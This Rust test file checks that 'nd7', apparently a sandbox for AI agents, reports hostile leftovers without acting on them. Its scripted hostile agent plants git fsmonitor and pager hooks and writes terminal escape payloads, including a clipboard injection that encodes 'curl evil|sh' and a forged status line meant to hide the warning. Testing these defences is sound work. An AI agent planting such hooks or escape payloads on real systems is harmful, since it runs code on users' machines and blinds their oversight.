//! Text the agent chose reaches the user's terminal only inert (issue 29
//! item 1, ADR-0090): the end-of-session warning (file names, contents,
//! commands), the processes `nd7 run` ends, `nd7 deny`'s list of running
//! commands. And a terminal the agent's program left hostile (a string never
//! terminated, the alternate screen, mouse reporting) still shows nd7's
//! closing lines, which name what lets git and direnv run code. The real
//! terminal is a tmux pane, whose visible contents are read after `nd7 run`
//! returns.
#![cfg(target_os = "linux")]

use std::path::PathBuf;
use std::time::{Duration, Instant};

use crate::world::*;

/// Waits (at most two minutes) for `done`; panics with `what` otherwise.
pub(crate) fn eventually(what: &str, mut done: impl FnMut() -> bool) {
    let start = Instant::now();
    while !done() {
        assert!(start.elapsed() < Duration::from_secs(120), "never: {what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A git repository in the project with one commit, as the account made it.
pub(crate) fn repo(w: &World) {
    let git = |args: &[&str]| {
        let out = w.command("git", args).output().expect("git");
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(w.proj().join("a.txt"), "a\n").expect("write");
    git(&["add", "a.txt"]);
    git(&[
        "-c",
        "user.name=u",
        "-c",
        "user.email=u@e",
        "commit",
        "-qm",
        "a",
    ]);
}

/// What a hostile file holds, as printf(1) reads it: clear the screen and
/// the scrollback and go home (the issue's chain), the clipboard (OSC 52),
/// the window title, CSI as the C1 character U+009B, a bidi override, a
/// zero-width space, a carriage return and a fake line of nd7's own.
const HOSTILE: &str = r"\033[2J\033[3J\033[H\033]52;c;Y3VybCBldmlsfHNo\a\033]2;pwned-title\a\302\2332J\342\200\256gnp.exe\342\200\213\rnd7 run: nothing changed during this session\n";

/// Bytes that act on a terminal, or hide or reorder text: ESC, BEL, CAN,
/// SI/SO, U+009B (CSI) and the other C1 controls, bidi overrides.
pub(crate) fn acting(out: &str) -> Vec<char> {
    out.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}')
        })
        .collect()
}

/// A tmux server of the account's, on a socket in the world: killed when
/// dropped.
pub(crate) struct Tmux<'w> {
    w: &'w World,
    socket: PathBuf,
}

impl<'w> Tmux<'w> {
    /// A detached session `s`, `cols` wide, running `command` in its pane.
    pub(crate) fn start(w: &'w World, cols: u16, command: &str) -> Tmux<'w> {
        let socket = w.outside().join("tmux.sock");
        let t = Tmux { w, socket };
        let out = t
            .cmd(&[
                "-f",
                "/dev/null",
                "new-session",
                "-d",
                "-s",
                "s",
                "-x",
                &cols.to_string(),
                "-y",
                "80",
                command,
            ])
            .output()
            .expect("tmux");
        assert!(out.status.success(), "{}", text(&out.stderr));
        // OSC 52 from the pane would become a paste buffer.
        t.ask(&["set", "-g", "set-clipboard", "on"]);
        t.ask(&["set", "-g", "remain-on-exit", "on"]);
        t
    }

    fn cmd(&self, args: &[&str]) -> std::process::Command {
        let socket = self.socket.display().to_string();
        let mut all = vec!["-S", &socket];
        all.extend_from_slice(args);
        self.w.command("tmux", &all)
    }

    pub(crate) fn ask(&self, args: &[&str]) -> String {
        let out = self.cmd(args).output().expect("tmux");
        text(&out.stdout)
    }

    /// The pane's visible contents, each line as it is shown.
    pub(crate) fn visible(&self) -> String {
        self.ask(&["capture-pane", "-p", "-t", "s"])
    }
}

impl Drop for Tmux<'_> {
    fn drop(&mut self) {
        let _ = self.cmd(&["kill-server"]).output();
    }
}

/// The issue's chain, in a real terminal: the agent copies `.git` out of the
/// project, sets `core.fsmonitor` in the copy, points `.git/commondir` at it
/// (a new name, which no mount holds), writes an `.envrc` that clears the
/// screen and the scrollback, and leaves the terminal on the alternate
/// screen, with mouse reporting on and a DCS string never terminated. After
/// `nd7 run` returns, the pane still shows the warning, the commondir change
/// named as letting git run code, the exit status, and the shell's next
/// line; the terminal is back on the normal screen without mouse reporting;
/// nothing reached the clipboard or the title.
///
/// Guards `safe::RESET` (`run::reset_terminal`): without it the DCS string
/// swallows every line after it and the pane shows none of the warning.
/// Guards the escaping of the warning (`report::inert`, `safe::path` and
/// `nd7 run`'s sink, `Lines::Keep`): without both the `.envrc` clears the
/// screen and the warning's head is gone.
#[test]
fn the_warning_survives_a_hostile_terminal_and_names_what_lets_git_run_code() {
    let w = World::new();
    repo(&w);
    let agent = w.agent(&format!(
        r#"
cp -r .git "$TMPDIR/c"
git --git-dir="$TMPDIR/c" config core.fsmonitor "touch $OUT/fsmonitor-ran"
echo "$TMPDIR/c" > .git/commondir
printf '{HOSTILE}' > .envrc
printf '\033[?1049h\033[?1000h\033[?1006h\033P unterminated DCS'
"#
    ));
    let status = w.outside().join("status");
    let tmux = Tmux::start(
        &w,
        200,
        &format!(
            "'{ND7}' run '{agent}'; s=$?; echo \"the shell's next line: $s\"; echo $s > '{}'; exec sleep 600",
            status.display()
        ),
    );
    eventually("nd7 run returns in the pane", || status.exists());
    eventually("the shell's line is written", || {
        std::fs::read_to_string(&status).is_ok_and(|s| s.ends_with('\n'))
    });
    let shown = tmux.visible();
    assert_eq!(
        std::fs::read_to_string(&status).expect("status").trim(),
        "3",
        "{shown}"
    );
    let proj = w.proj().display().to_string();
    for want in [
        "nd7 run: WARNING: ".to_string(),
        format!("  added: {proj}/.git/commondir"),
        format!("  added: {proj}/.envrc"),
        "nd7 run: END OF WARNING: 2 change(s) above".to_string(),
        "let git run code".to_string(),
        format!("\n  {proj}/.git/commondir\n"),
        "let direnv run code".to_string(),
        "nd7 run exits with status 3 because of this warning.".to_string(),
        "the shell's next line: 3".to_string(),
    ] {
        assert!(
            shown.contains(&want),
            "missing {want:?} in the pane:\n{shown}"
        );
    }
    // The fake line stays inside the diff line that holds it.
    assert!(
        !shown
            .lines()
            .any(|l| l.starts_with("nd7 run: nothing changed")),
        "{shown}"
    );
    assert!(
        shown.contains("\\x1b[2J\\x1b[3J\\x1b[H\\x1b]52;c;"),
        "{shown}"
    );
    let state = tmux.ask(&[
        "display-message",
        "-p",
        "-t",
        "s",
        "#{alternate_on} #{mouse_any_flag} #{pane_title}",
    ]);
    let mut state = state.split_whitespace();
    assert_eq!(state.next(), Some("0"), "still on the alternate screen");
    assert_eq!(state.next(), Some("0"), "mouse reporting still on");
    assert_ne!(state.next(), Some("pwned-title"));
    assert_eq!(
        tmux.ask(&["list-buffers"]),
        "",
        "OSC 52 reached the clipboard"
    );
}

/// Without a terminal: every byte nd7 run writes that the agent chose is
/// inert: a file's name and content, a command's text, a configuration
/// value, and the name of a process the session left running. Nothing that
/// acts on a terminal is in stderr at all (no reset is written where there
/// is no terminal).
///
/// Guards `report::inert`/`safe::path` with the sink's `Lines::Keep` in
/// `nd7 run` (without both: ESC and U+009B in stderr) and the escaping of
/// process names in `run.rs` and the keeper.
#[test]
fn nothing_the_agent_chose_reaches_stderr_raw() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(&format!(
        r#"
printf '{HOSTILE}' > .envrc
d=$(printf 'x\033]2;t\a\342\200\256')
mkdir -p "$d" && git -C "$d" init -q && git -C "$d" config core.fsmonitor "$(printf 'touch x\033[2J')"
"$EXEC" "$(printf 'true # \033]52;c;eA==\a')"
# A process's name is the last part of the name it was started by: a link
# to sleep named so.
p="$TMPDIR/$(printf '\033]2;P\a\033[2J')"
ln -s "$(command -v sleep)" "$p" && "$p" 600 </dev/null >/dev/null 2>&1 &
for _ in $(seq 400); do grep -q '^Name:.*P' /proc/$!/status 2>/dev/null && break; sleep 0.05; done
"#
    ));
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert_eq!(acting(&err), Vec::<char>::new(), "{err}");
    assert!(
        err.contains("\\x1b]2;P\\x07\\x1b[2J"),
        "the process is not named:\n{err}"
    );
    assert!(
        err.contains("x\\x1b]2;t\\x07\\u{202e}/.git/config"),
        "{err}"
    );
    assert!(err.contains("core.fsmonitor = touch x\\x1b[2J"), "{err}");
    assert!(err.contains("true # \\x1b]52;c;eA==\\x07"), "{err}");
}

/// `nd7 deny` names the commands still running under the grant it takes
/// back: their text is the agent's, shown inert.
///
/// Guards `safe::term` in `running::Command::describe`.
#[test]
fn nd7_deny_shows_running_commands_inert() {
    let w = World::new();
    let data = w.outside().join("data");
    std::fs::create_dir(&data).expect("data");
    let data_path = data.display().to_string();
    let (child, _) = w.start_agent(&format!(
        r#"
touch ready; wait_for granted
"$EXEC" "$(printf 'touch {data_path}/in; sleep 600 # \033[2J\033]52;c;eA==\a\302\233H')" </dev/null >/dev/null 2>&1 &
wait_for "{data_path}/in"
touch started; wait_for denied
kill %1
"#
    ));
    w.wait_for("ready");
    let allow = w.nd7(&["allow", &data_path]).output().expect("allow");
    assert!(allow.status.success(), "{}", text(&allow.stderr));
    w.signal("granted");
    w.wait_for("started");
    let deny = w.nd7(&["deny", &data_path]).output().expect("deny");
    w.signal("denied");
    let said = format!("{}{}", text(&deny.stdout), text(&deny.stderr));
    let _ = child.wait_with_output();
    assert!(deny.status.success(), "{said}");
    assert!(said.contains("  process group "), "{said}");
    assert_eq!(acting(&said), Vec::<char>::new(), "{said}");
    assert!(
        said.contains("sleep 600 # \\x1b[2J\\x1b]52;c;eA==\\x07\\x9bH"),
        "{said}"
    );
}

/// Repositories git finds that are not a plain `.git` directory: the
/// project itself turned bare by a garbage `.git/HEAD` (git then takes the
/// project's own `HEAD`, `objects/`, `refs/` and `config`, whose pager runs
/// at the user's next `git log`), a bare repository in a subdirectory, a
/// `.git` that is a link to a repository outside, and a config whose last
/// line ends in a backslash. Each is named in the warning and in the closing
/// lines among what lets git run code.
///
/// Guards the search's bare repositories (`HEAD` in `searched_name`, and
/// `is_bare_repository` in `Watch::search`): without them the first two are
/// not reported at all.
#[test]
fn odd_repositories_are_named_as_letting_git_run_code() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(
        r#"
printf 'garbage\n' > .git/HEAD
cp -r .git/objects .git/refs . && printf 'ref: refs/heads/main\n' > HEAD
printf "[core]\n\tbare = true\n\tpager = touch $OUT/bare-pager; cat\n" > config
git init -q --bare b.git && git -C b.git config core.pager "touch $OUT/sub-bare; cat"
mkdir -p "$TMPDIR/r" && git init -q "$TMPDIR/r" && git -C "$TMPDIR/r" config core.fsmonitor "touch $OUT/linked"
mkdir -p l && ln -s "$TMPDIR/r/.git" l/.git
git init -q s && printf "[core]\n\tfsmonitor = touch $OUT/backslash; false \\" >> s/.git/config
"#,
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    // The attack is real: git now takes the project for a bare repository
    // and its `config` for the repository's (its pager runs at the next
    // `git log` on a terminal).
    let pager = w
        .command("git", &["config", "core.pager"])
        .output()
        .expect("git config");
    assert_eq!(
        text(&pager.stdout).trim(),
        format!("touch {}/bare-pager", w.outside().display())
    );
    let proj = w.proj().display().to_string();
    let (_, close) = err
        .split_once("nd7 run: END OF WARNING: ")
        .unwrap_or_else(|| panic!("no closing lines:\n{err}"));
    assert!(close.contains("let git run code"), "{close}");
    for path in ["config", "b.git/config", "l/.git", "s/.git/config"] {
        assert!(
            close.contains(&format!("\n  {proj}/{path}\n")),
            "{path} not named among what git runs:\n{err}"
        );
    }
    assert!(
        err.contains(&format!(
            "  found: a repository whose configuration runs or fetches something: core.pager = touch {}/bare-pager: {proj}/config\n",
            w.outside().display()
        )),
        "{err}"
    );
}
